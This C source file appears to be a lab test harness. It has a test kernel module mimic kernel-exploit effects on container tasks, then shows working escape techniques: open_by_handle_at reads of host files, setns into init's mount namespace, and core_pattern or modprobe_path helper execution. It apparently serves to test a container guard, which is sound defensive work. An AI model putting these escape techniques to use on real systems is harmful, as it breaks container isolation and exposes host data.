/* Has the payload module change a task of the container, as an exploit of the kernel would, and shows what that was good for.
 * usage: payload EFFECT WHO VEHICLE PROOF
 *   WHO: self | user (self, uid 1000) | self-spins | thread | forked | init | child | spinner (a child without system calls)
 *   VEHICLE: call | fault | work | int3 | worker */
#include "common.h"
#include "prove.h"
#include "../payload/casemate_payload.h"
#include <pthread.h>
#include <sys/ioctl.h>
#include <x86intrin.h>

/* Longer than the guard's sweep needs to see a change twice. */
#define SPIN_SECONDS 4
#define ROOTS_FILE "/roots"
#define SETUID_COPY "/setuid_copy"

static int device;
static unsigned long effect;
static unsigned vehicle;
static const char *proof;
static struct casemate_payload order;
/* Shared with children: set when the payload was run. */
static volatile int *gone_off;
static unsigned long ticks_per_second;

static unsigned long number_of(const char *name, const char *const *names)
{
	for (unsigned long i = 0; names[i]; i++)
		if (!strcmp(names[i], name))
			return i;
	fprintf(stderr, "attack: unknown word %s\n", name);
	exit(2);
}

static void measure_ticks(void)
{
	unsigned long start = __rdtsc();
	usleep(100000);
	ticks_per_second = (__rdtsc() - start) * 10;
}

/* Lets time pass without a system call. */
static void spin(unsigned long tenths)
{
	unsigned long end = __rdtsc() + ticks_per_second / 10 * tenths;
	while (__rdtsc() < end)
		_mm_pause();
}

/* Runs the payload on the task `pid`, or on this one. */
static void violate(pid_t pid)
{
	order.vehicle = vehicle;
	order.pid = pid;
	volatile char *page = NULL;
	if (vehicle != CASEMATE_CALL && vehicle != CASEMATE_WORK) {
		if (ioctl(device, effect, &order))
			lab_die("ioctl");
	} else {
		lab_violate4("ioctl", SYS_ioctl, device, effect, &order, 0);
	}
	switch (vehicle) {
	case CASEMATE_FAULT:
		page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, device, 0);
		if (page == MAP_FAILED)
			lab_die("map the device");
		(void)*page;
		*lab_after = 1;
		break;
	case CASEMATE_INT3:
		__asm__ volatile("int3" ::: "memory");
		*lab_after = 1;
		break;
	case CASEMATE_WORKER:
		spin(15);
		*lab_after = 1;
		break;
	default:
		break;
	}
}

/* What CAP_DAC_READ_SEARCH over the host is good for: one of its files by handle, without a path. */
static void prove_handle(void)
{
	struct {
		struct file_handle head;
		unsigned int inode, generation;
	} handle = {.head = {.handle_bytes = 8, .handle_type = 1}, .inode = (unsigned int)lab_env_num("LAB_SECRET_INODE")};
	int root = open("/", O_RDONLY | O_DIRECTORY);
	int fd = open_by_handle_at(root, &handle.head, O_RDONLY);
	if (fd < 0)
		lab_die("open_by_handle_at");
	lab_print_fd(fd);
}

/* A file that only root may read. */
static void prove_ids(void)
{
	if (open(ROOTS_FILE, O_RDONLY) < 0)
		lab_die(ROOTS_FILE);
	puts("ROOT");
}

/* What most filters refuse, as the door to most of the kernel's bugs. */
static void prove_filtered(void)
{
	if (unshare(CLONE_NEWUSER))
		lab_die("unshare");
	puts("UNFILTERED");
}

static void prove_nnp(void)
{
	execl(SETUID_COPY, "payload", "euid", NULL);
	lab_die(SETUID_COPY);
}

static void prove_setns(void)
{
	int fd = open("/proc/1/ns/mnt", O_RDONLY);
	if (fd < 0)
		lab_die("/proc/1/ns/mnt");
	if (setns(fd, CLONE_NEWNS))
		lab_die("setns");
	lab_print_secret(lab_env("LAB_SECRET"));
}

static void prove_core(void)
{
	lab_dump_core();
	sleep(1);
}

/* A protocol family and an executable format that nobody has: the kernel asks modprobe. */
static void prove_modprobe(void)
{
	int fd = open("/unknown", O_WRONLY | O_CREAT, 0755);
	if (fd < 0 || write(fd, "\xff\xff\xff\xff", 4) != 4)
		lab_die("/unknown");
	close(fd);
	if (fork() == 0) {
		execl("/unknown", "unknown", NULL);
		_exit(0);
	}
	wait(NULL);
	socket(9 /* AF_X25 */, SOCK_SEQPACKET, 0);
	sleep(1);
}

static void prove(void)
{
	if (!strcmp(proof, "handle"))
		prove_handle();
	else if (!strcmp(proof, "ids"))
		prove_ids();
	else if (!strcmp(proof, "net"))
		lab_prove_net();
	else if (!strcmp(proof, "file"))
		lab_print_secret(lab_env("LAB_SECRET"));
	else if (!strcmp(proof, "setns"))
		prove_setns();
	else if (!strcmp(proof, "filtered"))
		prove_filtered();
	else if (!strcmp(proof, "nnp"))
		prove_nnp();
	else if (!strncmp(proof, "core", 4))
		prove_core();
	else if (!strncmp(proof, "modprobe", 8))
		prove_modprobe();
	fflush(stdout);
}

/* What the container has before: a file of root's, a program that makes its user root. */
static void place_files(void)
{
	int fd = open(ROOTS_FILE, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	if (fd < 0)
		lab_die(ROOTS_FILE);
	close(fd);
	lab_copy("/proc/self/exe", SETUID_COPY);
	if (chmod(SETUID_COPY, 04755))
		lab_die(SETUID_COPY);
}

/* The helper that the kernel shall run: a file at the container's root, or one in memory. */
static void place_helper(void)
{
	char path[64] = "";
	int host_pid = ioctl(device, CASEMATE_HOST_PID);
	lab_place_helper();
	if (strstr(proof, "memfd")) {
		int memory = memfd_create("helper", 0);
		snprintf(path, sizeof(path), "/proc/self/fd/%d", memory);
		lab_copy("/umh_mark", path);
		snprintf(path, sizeof(path), "fd/%d", memory);
	} else {
		snprintf(path, sizeof(path), "root/umh_mark");
	}
	if (!strncmp(proof, "core", 4))
		snprintf(order.text, sizeof(order.text), "|/proc/%%P/%s", path);
	else
		snprintf(order.text, sizeof(order.text), "/proc/%d/%s", host_pid, path);
}

static void *in_thread(void *unused)
{
	violate(0);
	prove();
	return unused;
}

/* A child that waits, with or without system calls, until the payload was run on it. */
static pid_t start_child(int spins)
{
	pid_t child = fork();
	if (child)
		return child;
	while (!*gone_off)
		if (!spins)
			usleep(10000);
	prove();
	_exit(0);
}

static void on_child(int spins)
{
	pid_t child = start_child(spins);
	usleep(100000);
	violate(child);
	if (spins)
		sleep(SPIN_SECONDS);
	*gone_off = 1;
	waitpid(child, NULL, 0);
}

int main(int argc, char **argv)
{
	static const char *const effects[] = {"",	     "commit-creds",  "store-cred",    "store-caps", "store-ids",  "switch-ns",
					      "store-nsproxy", "store-ns",     "creds-ns-fs",   "creds-init-ns", "set-root", "clear-seccomp",
					      "clear-flag",  "clear-nnp",     "core-pattern",  "modprobe-path", NULL};
	static const char *const vehicles[] = {"call", "fault", "work", "int3", "worker", NULL};
	if (argc == 2 && !strcmp(argv[1], "euid")) {
		puts(geteuid() == 0 ? "NEWPRIVS" : "nothing new");
		return 0;
	}
	if (argc != 5)
		return 2;
	const char *who = argv[2];
	effect = CASEMATE_EFFECT(number_of(argv[1], effects));
	vehicle = (unsigned)number_of(argv[3], vehicles);
	proof = argv[4];
	device = open("/dev/casemate_payload", O_RDWR | O_CLOEXEC);
	if (device < 0)
		lab_die("/dev/casemate_payload");
	gone_off = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	measure_ticks();
	place_files();
	if (!strncmp(proof, "core", 4) || !strncmp(proof, "modprobe", 8))
		place_helper();

	if (!strcmp(who, "thread")) {
		pthread_t thread;
		if (pthread_create(&thread, NULL, in_thread, NULL))
			lab_die("pthread_create");
		pthread_join(thread, NULL);
	} else if (!strcmp(who, "forked")) {
		pid_t child = fork();
		if (child == 0) {
			in_thread(NULL);
			_exit(0);
		}
		waitpid(child, NULL, 0);
	} else if (!strcmp(who, "child") || !strcmp(who, "spinner")) {
		on_child(!strcmp(who, "spinner"));
	} else {
		if (!strcmp(who, "user") && (setresgid(1000, 1000, 1000) || setresuid(1000, 1000, 1000)))
			lab_die("setresuid");
		violate(!strcmp(who, "init") ? 1 : 0);
		if (!strcmp(who, "self-spins"))
			spin(SPIN_SECONDS * 10);
		prove();
	}
	return 0;
}
